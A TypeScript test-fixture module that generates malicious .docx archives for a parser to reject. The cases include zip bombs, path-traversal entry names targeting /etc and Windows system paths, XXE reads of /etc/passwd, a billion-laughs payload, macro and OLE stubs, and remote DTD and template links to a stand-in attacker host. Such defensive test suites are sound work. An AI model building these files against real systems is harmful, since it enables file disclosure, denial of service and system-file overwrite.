import { type HostileCase, latin1, PROSE } from './case.ts'
import { type ZipEntry, zipOf } from './zip.ts'

const TYPES = latin1(
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
)
const RELATIONS = latin1(
  '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
)
const SPACE = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

function body(text: string, head = ''): Buffer {
  return Buffer.from(
    `<?xml version="1.0"?>${head}<w:document ${SPACE}><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`,
  )
}

const entry = (name: string, data: Uint8Array | string, says?: ZipEntry['says']): ZipEntry => ({
  name,
  data: typeof data === 'string' ? latin1(data) : data,
  says,
})

const base = (document: Uint8Array): ZipEntry[] => [
  entry('[Content_Types].xml', TYPES),
  entry('_rels/.rels', RELATIONS),
  entry('word/document.xml', document),
]
const GOOD = () => base(body(PROSE))

function reject(name: string, bytes: Uint8Array): HostileCase {
  return { name: `${name}.docx`, format: 'docx', bytes, expect: 'reject' }
}

export function hostileDocx(): HostileCase[] {
  const good = zipOf(GOOD())
  return [...bombs(), ...names(), ...xml(), ...lies(good), ...programs()]
}

function bombs(): HostileCase[] {
  const zeros = Buffer.alloc(60_000_000, 0x20)
  return [
    reject('bomb-document', zipOf(base(Buffer.concat([body(PROSE), zeros])))),
    reject('bomb-media', zipOf([...GOOD(), entry('word/media/image1.png', zeros)])),
    reject(
      'bomb-of-many',
      zipOf([
        ...GOOD(),
        ...Array.from({ length: 40 }, (_, at) => entry(`word/x${at}.bin`, zeros.subarray(0, 3_000_000))),
      ]),
    ),
    reject('overlapping-entries', overlapping()),
    reject('many-entries', zipOf([...GOOD(), ...Array.from({ length: 5_000 }, (_, at) => entry(`f${at}`, 'x'))])),
    reject('nested-archive', zipOf([...GOOD(), entry('word/inner.zip', zipOf(GOOD()))])),
    reject('size-says-small', zipOf([...GOOD(), entry('word/big.xml', zeros.subarray(0, 20_000_000), { size: 100 })])),
    reject('size-says-huge', zipOf([...GOOD(), entry('word/small.xml', 'x', { size: 0xfffffff0 })])),
  ]
}

/** Five hundred names for one and the same packed megabyte. */
function overlapping(): Buffer {
  const shared = entry('word/a.bin', Buffer.alloc(1_000_000, 1))
  const start = zipOf(GOOD()).indexOf('PK\x01\x02')
  const phantoms = Array.from(
    { length: 500 },
    (_, at): ZipEntry => ({
      ...shared,
      name: `word/${String(at).padStart(1, '0')}.bin`,
      phantom: true,
      says: { offset: start },
    }),
  )
  return zipOf([...GOOD(), shared, ...phantoms])
}

function names(): HostileCase[] {
  const withName = (label: string, name: string, says?: ZipEntry['says']) =>
    reject(label, zipOf([...GOOD(), entry(name, 'root:x:0:0', says)]))
  return [
    withName('climbs-out', '../../../etc/cron.d/owned'),
    withName('absolute', '/etc/passwd'),
    withName('backslashes', '..\\..\\windows\\system32\\evil.dll'),
    withName('drive-letter', 'C:/windows/evil.dll'),
    withName('symbolic-link', 'word/link', { attributes: (0o120777 << 16) >>> 0 }),
    withName('same-name-twice', 'word/document.xml'),
    withName('nul-in-name', 'word/a\0.xml'),
    withName('hidden-climb', 'word/./../../x'),
  ]
}

function xml(): HostileCase[] {
  const entities = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')
  const deep = 50_000
  return [
    reject('external-entity', zipOf(base(body('&x;', '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')))),
    reject('remote-dtd', zipOf(base(body(PROSE, '<!DOCTYPE d SYSTEM "http://attacker.test/x.dtd">')))),
    reject('billion-laughs', zipOf(base(body('&l9;', `<!DOCTYPE d [<!ENTITY l0 "lol">${entities}]>`)))),
    reject(
      'utf16-doctype',
      zipOf(base(Buffer.from(`\uFEFF<!DOCTYPE d [<!ENTITY x "y">]><w:document ${SPACE}/>`, 'utf16le'))),
    ),
    reject(
      'deep-elements',
      zipOf(base(latin1(`<w:document ${SPACE}>${'<w:p>'.repeat(deep)}x${'</w:p>'.repeat(deep)}</w:document>`))),
    ),
    reject('not-closed', zipOf(base(latin1(`<w:document ${SPACE}><w:body><w:p>`)))),
    reject('not-xml', zipOf(base(Buffer.from('this is no xml at all, only words in a row')))),
    reject('no-body', zipOf(base(latin1(`<w:document ${SPACE}/>`)))),
    reject('doctype-in-styles', zipOf([...GOOD(), entry('word/styles.xml', '<!DOCTYPE s [<!ENTITY a "b">]><s/>')])),
  ]
}

function lies(good: Buffer): HostileCase[] {
  const damaged = Buffer.from(good)
  damaged.fill(0xaa, 60, 140)
  return [
    reject('cut-in-half', good.subarray(0, good.length / 2)),
    reject('without-directory', good.subarray(0, good.indexOf('PK\x01\x02'))),
    reject('only-directory-end', latin1(`PK\x05\x06${'\0'.repeat(18)}`)),
    reject('damaged-data', damaged),
    reject('without-document', zipOf([entry('[Content_Types].xml', TYPES), entry('readme.txt', 'hello')])),
    reject('encrypted', zipOf([...GOOD(), entry('word/secret.xml', 'x', { flags: 1 })])),
    reject('unknown-method', zipOf([...GOOD(), entry('word/odd.xml', 'x', { method: 99 })])),
    reject('count-says-more', zipOf(GOOD(), { count: 60_000 })),
    reject('offset-outside', zipOf([...GOOD(), entry('word/far.xml', 'x', { offset: 0x7fffffff })])),
    reject('spreadsheet', zipOf([entry('[Content_Types].xml', TYPES), entry('xl/workbook.xml', '<workbook/>')])),
    reject('program-before', zipOf(GOOD(), { prefix: Buffer.concat([latin1('MZ'), Buffer.alloc(500)]) })),
  ]
}

function programs(): HostileCase[] {
  const remote =
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" ' +
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.test/t.dotm" TargetMode="External"/></Relationships>'
  return [
    reject('macro', zipOf([...GOOD(), entry('word/vbaProject.bin', 'Attribute VB_Name')])),
    reject('embedded-object', zipOf([...GOOD(), entry('word/embeddings/oleObject1.bin', 'MZ')])),
    reject('active-x', zipOf([...GOOD(), entry('word/activeX/activeX1.xml', '<a/>')])),
    // Nothing is fetched, so the words may stand.
    {
      ...reject('remote-template', zipOf([...GOOD(), entry('word/_rels/document.xml.rels', remote)])),
      expect: 'either',
    },
  ]
}
